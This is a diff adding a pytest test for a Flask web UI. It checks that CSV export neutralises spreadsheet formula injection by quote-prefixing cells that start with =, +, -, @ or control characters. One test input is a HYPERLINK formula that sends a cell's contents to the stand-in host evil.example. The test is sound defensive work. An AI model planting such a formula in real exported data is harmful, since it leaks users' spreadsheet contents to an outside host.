@@ -157,3 +157,21 @@ def test_the_console_runs_on_post_only(client):
     page = client.get("/cypher?query=RETURN%2042%20AS%20answer").get_data(as_text=True)
     assert "RETURN 42 AS answer" in page and "1 dòng" not in page  # the form, filled in, not run
     assert 'name="csrf_token"' in page
+
+
+@pytest.mark.parametrize("cell,written", [
+    ('=HYPERLINK("http://evil.example/?x="&A1,"x")', '\'=HYPERLINK("http://evil.example/?x="&A1,"x")'),
+    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("Chủ trì, xây dựng Kế hoạch", "Chủ trì, xây dựng Kế hoạch"), (-5, "-5"),   # numbers stay numbers
+])
+def test_csv_cells_never_run_as_formulas(cell, written):
+    import csv
+    import io
+
+    from webui import create_app
+    from webui.render import csv_response
+
+    with create_app({"TESTING": True}).test_request_context():
+        body = csv_response(["task"], [{"task": cell}], "x").get_data(as_text=True).lstrip("\ufeff")
+    rows = list(csv.reader(io.StringIO(body, newline="")))
+    assert rows[1] == [written]
